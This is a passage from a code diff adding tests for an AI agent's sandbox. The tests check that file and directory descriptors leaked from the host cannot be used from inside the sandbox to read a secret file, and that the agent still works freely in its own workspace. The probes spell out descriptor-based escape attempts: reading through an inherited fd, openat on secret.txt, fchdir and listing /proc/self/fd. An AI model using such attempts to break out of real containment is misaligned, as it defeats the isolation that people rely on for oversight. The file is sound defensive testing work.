+    dir_fd = os.open(host_dir, os.O_RDONLY | os.O_DIRECTORY)
+    try:
+        os.set_inheritable(file_fd, True)
+        os.set_inheritable(dir_fd, True)
+        probe = run_probe(
+            cell,
+            [
+                Attempt("read", f"return os.read({file_fd}, 100).decode()"),
+                Attempt("openat", f"return open(os.open('secret.txt', os.O_RDONLY, dir_fd={dir_fd})).read()"),
+                Attempt("fchdir", f"os.fchdir({dir_fd}); return os.listdir('.')"),
+                Attempt("fds", "return sorted(int(n) for n in os.listdir('/proc/self/fd'))"),
+                Attempt("control", "return os.write(1, b'')"),
+            ],
+        )
+    finally:
+        os.close(file_fd)
+        os.close(dir_fd)
+    for name in ("read", "openat", "fchdir"):
+        assert_refused(probe[name], EBADF)
+    assert not leaked(probe, secret)
+    fds = assert_works(probe["fds"])
+    assert fds[:3] == [0, 1, 2] and len(fds) == 4  # the fourth is the listing's own
+    assert assert_works(probe["control"]) == 0
+
+
+def test_the_workspace_stays_the_agents(cell: Cell) -> None:
+    """The neighbour of every attempt above, on its own: the agent reads,
+    writes, renames, links and deletes freely in its workspace, and the host
+    sees the result. No refusal is recorded."""
+    probe = run_probe(
+        cell,
+        [
+            Attempt(
+                "work",
+                "os.makedirs('src/pkg'); open('src/pkg/a.py', 'w').write('x = 1\\n')\n"
+                "os.rename('src/pkg/a.py', 'src/pkg/b.py'); os.symlink('pkg/b.py', 'src/link')\n"
+                "os.chmod('src/pkg/b.py', 0o755); open('gone', 'w').close(); os.unlink('gone')\n"
+                "return open('src/link').read()",
+            ),
+        ],
+    )
+    assert assert_works(probe["work"]) == "x = 1\n"
+    assert Path(cell.workspace, "src/pkg/b.py").read_text() == "x = 1\n"
+    assert not probe.denials()
